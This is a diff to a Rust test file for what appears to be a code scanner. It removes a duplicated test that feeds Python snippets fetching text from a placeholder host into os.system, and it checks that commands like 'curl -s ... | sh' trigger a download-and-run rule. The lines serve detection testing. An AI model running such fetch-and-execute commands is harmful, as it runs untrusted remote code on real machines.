@@ -50,30 +50,6 @@ fn objects_of_the_script_host_are_what_their_names_say() {
 }
 
 #[test]
-fn unpacking_starts_nothing() {
-    let started = |command: &str| {
-        let code = format!(
-            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
-        );
-        rules(Language::Python, &code).contains(&"flow-download-run")
-    };
-    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
-    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
-}
-
-#[test]
-fn unpacking_starts_nothing() {
-    let started = |command: &str| {
-        let code = format!(
-            "import os, requests\nticket = requests.get('https://data.invalid/t').text\nos.system(f'{command}')\n"
-        );
-        rules(Language::Python, &code).contains(&"flow-download-run")
-    };
-    assert!(started("{ticket}") && started("sh {ticket}") && started("curl -s {ticket} | sh"));
-    assert!(!started("touch {ticket}") && !started("tar xzf {ticket}") && !started("gzip -dc {ticket} | tar x"));
-}
-
-#[test]
 fn a_command_that_nobody_has_read_accuses_less() {
     let severity = |text: &str| {
         use base64::Engine as _;
